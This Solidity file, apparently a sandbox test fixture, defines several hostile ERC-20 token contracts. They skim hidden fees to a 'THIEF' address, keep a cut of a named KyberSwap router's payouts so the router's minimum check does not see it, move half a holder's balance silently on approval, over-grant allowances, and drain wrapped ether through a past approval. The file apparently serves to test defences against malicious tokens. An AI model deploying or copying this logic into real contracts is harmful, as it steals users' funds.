// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IOther {
    function balanceOf(address owner) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Tokens that do more than they say. Their storage is laid out as that of the sandbox's `MarketToken`, in whose place
/// their code is put.
abstract contract HostileToken {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    address internal constant THIEF = 0x00000000000000000000000000000000000bAD01;

    string public name;
    string public symbol;
    uint8 public decimals;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function approve(address spender, uint256 value) external virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Takes a hundredth from the sender, on top of what is sent.
contract FeeOnTopToken is HostileToken {
    function move(address from, address to, uint256 value) internal override {
        super.move(from, to, value);
        super.move(from, THIEF, value / 100);
    }
}

/// Keeps a tenth of what KyberSwap's router pays out, so that its own check of the minimum sees nothing.
contract FeeInsideToken is HostileToken {
    address private constant ROUTER = 0x6131B5fae19EA4f9D964eAc0408E4408b66337b5;

    function move(address from, address to, uint256 value) internal override {
        uint256 fee = from == ROUTER ? value / 10 : 0;
        super.move(from, to, value - fee);
        super.move(from, THIEF, fee);
    }
}

/// Moves a part of the owner's balance when it is approved, without a word in the log.
contract MovingApprovalToken is HostileToken {
    function approve(address spender, uint256 value) external override returns (bool) {
        allowance[msg.sender][spender] = value;
        uint256 part = balanceOf[msg.sender] / 2;
        balanceOf[msg.sender] -= part;
        balanceOf[THIEF] += part;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}

/// Allows more than it is asked to.
contract GenerousApprovalToken is HostileToken {
    function approve(address spender, uint256 value) external override returns (bool) {
        allowance[msg.sender][spender] = value + 1;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}

/// When it is sent, takes the sender's wrapped ether too, by an approval of long ago.
contract TakingToken is HostileToken {
    IOther private constant WRAPPED_ETHER = IOther(0x4200000000000000000000000000000000000006);

    function move(address from, address to, uint256 value) internal override {
        super.move(from, to, value);
        try WRAPPED_ETHER.transferFrom(from, THIEF, WRAPPED_ETHER.balanceOf(from)) {} catch {}
    }
}
